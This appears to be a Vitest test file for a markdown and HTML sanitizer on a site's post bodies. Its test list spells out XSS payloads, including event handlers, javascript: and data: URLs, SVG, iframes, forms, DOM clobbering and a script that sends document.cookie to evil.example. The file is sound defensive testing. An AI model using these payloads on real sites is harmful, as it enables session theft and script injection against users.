// @vitest-environment jsdom
// Post bodies: markdown and HTML render; hostile bodies (script, handlers, javascript:/data: URLs, SVG, iframe, style) come out inert.
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './renderMarkdown';

const ORIGINS = { page: 'http://127.0.0.1:4173', pictures: ['http://127.0.0.1:4173', 'http://127.0.0.1:8787'] };
const html = (body: string) => renderMarkdown(body, 'html', ORIGINS);
const md = (body: string) => renderMarkdown(body, 'markdown', ORIGINS);

/** Everything that could run, load or restyle, checked on the parsed result (not only on the text). */
function expectInert(out: string) {
  const root = document.createElement('div');
  root.innerHTML = out;
  for (const el of root.querySelectorAll('*')) {
    expect(['SCRIPT', 'IFRAME', 'STYLE', 'SVG', 'OBJECT', 'EMBED', 'FORM', 'LINK', 'META', 'BASE', 'MATH'].includes(el.tagName.toUpperCase())).toBe(false);
    for (const attr of el.attributes) {
      expect(attr.name.startsWith('on')).toBe(false);
      expect(['style', 'srcset', 'formaction', 'xlink:href', 'id', 'class'].includes(attr.name)).toBe(false);
      if (attr.name === 'href' || attr.name === 'src') expect(attr.value).toMatch(/^(https?:|mailto:|\/|#)/);
    }
  }
  for (const img of root.querySelectorAll('img[src]')) expect(ORIGINS.pictures).toContain(new URL(img.getAttribute('src')!).origin);
}

describe('renderMarkdown', () => {
  it('renders markdown (headings, lists, tables, links) and keeps staff HTML structure', () => {
    const out = md('## Season 4\n\n- **30 DAYS**\n- 90 DAYS\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n[guide](/en/guide/guide/2)');
    expect(out).toContain('<h2>Season 4</h2>');
    expect(out).toContain('<li><strong>30 DAYS</strong></li>');
    expect(out).toContain('<td>1</td>');
    expect(out).toContain('<a href="/en/guide/guide/2">guide</a>');
    expect(html('<p>Six <strong>cities</strong></p><ul><li>DAO</li></ul>')).toBe('<p>Six <strong>cities</strong></p><ul><li>DAO</li></ul>');
  });

  it('opens links leaving the site in a new tab with rel="noopener noreferrer"; a body cannot set target or rel itself', () => {
    const out = html('<a href="https://example.org/x" target="_self" rel="opener">out</a> <a href="/en/news/0" target="_blank">in</a>');
    expect(out).toBe('<a href="https://example.org/x" target="_blank" rel="noopener noreferrer">out</a> <a href="/en/news/0">in</a>');
  });

  const HOSTILE: [string, string][] = [
    ['script tag', '<p>hi</p><script>alert(1)</script>'],
    ['script in markdown', 'Hello\n\n<script>fetch("https://evil.example/steal?c="+document.cookie)</script>'],
    ['img onerror', '<img src=x onerror="alert(1)">'],
    ['event handlers', '<p onclick="alert(1)" onmouseover="alert(2)">x</p><body onload="alert(3)">'],
    ['javascript: link', '<a href="javascript:alert(1)">click</a><a href=" JaVaScRiPt:alert(1)">2</a><a href="java&#x09;script:alert(1)">3</a>'],
    ['javascript: link in markdown', '[click](javascript:alert(1)) and <javascript:alert(2)>'],
    ['data: URLs', '<a href="data:text/html,<script>alert(1)</script>">d</a><img src="data:image/svg+xml,<svg onload=alert(1)>">'],
    ['vbscript:', '<a href="vbscript:msgbox(1)">v</a>'],
    ['SVG with script', '<svg><script>alert(1)</script><circle onload="alert(2)"/></svg><svg><a xlink:href="javascript:alert(3)"><text>x</text></a></svg>'],
    ['iframe', '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['object and embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">'],
    ['style tag and attribute', '<style>body{display:none}</style><p style="position:fixed;inset:0;background:url(https://evil.example/t)">x</p>'],
    [
      'link, meta, base',
      '<link rel="stylesheet" href="https://evil.example/a.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><base ' +
        'href="https://evil.example/">',
    ],
    ['outside pictures', '<img src="https://evil.example/track.gif"><img srcset="https://evil.example/a.png 1x" src="/static/land/news.svg">'],
    ['form', '<form action="https://evil.example"><input name="p"><button formaction="https://evil.example">go</button></form>'],
    ['math and template tricks', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
    ['id and class clobbering', '<a id="login-popup" class="ds-button" href="/">x</a><img name="getElementById" src="/static/land/news.svg">'],
  ];

  for (const [name, body] of HOSTILE) {
    it(`renders a hostile body inert: ${name}`, () => {
      expectInert(html(body));
      expectInert(md(body));
    });
  }

  it('keeps the text of a hostile body readable', () => {
    expect(html('<p onclick="alert(1)">Maintenance on Thursday</p>')).toBe('<p>Maintenance on Thursday</p>');
    expect(html('<img src="/static/land/news.svg" alt="News">')).toBe('<img src="http://127.0.0.1:4173/static/land/news.svg" alt="News">');
  });
});

describe('renderMarkdown for user-written texts', () => {
  const user = (body: string) => renderMarkdown(body, 'user-markdown', ORIGINS);

  it('renders markdown but shows raw HTML as text', () => {
    const out = user('**bold** <b>tag</b>\n\n<div onclick="x()">block</div>');
    expect(out).toContain('<strong>bold</strong>');
    expect(out).toContain('&lt;b&gt;tag&lt;/b&gt;');
    expect(out).toContain('&lt;div onclick="x()"&gt;block&lt;/div&gt;');
    expectInert(out);
  });

  it('drops javascript: and data: links and outside pictures, and opens outside links safely', () => {
    const out = user('[a](javascript:alert(1)) [b](data:text/html,x) ![c](https://evil.example/p.png) [d](https://example.org)');
    expect(out).not.toContain('javascript:');
    expect(out).not.toContain('data:');
    expect(out).not.toContain('evil.example');
    expect(out).toContain('href="https://example.org" target="_blank" rel="noopener noreferrer"');
    expectInert(out);
  });
});
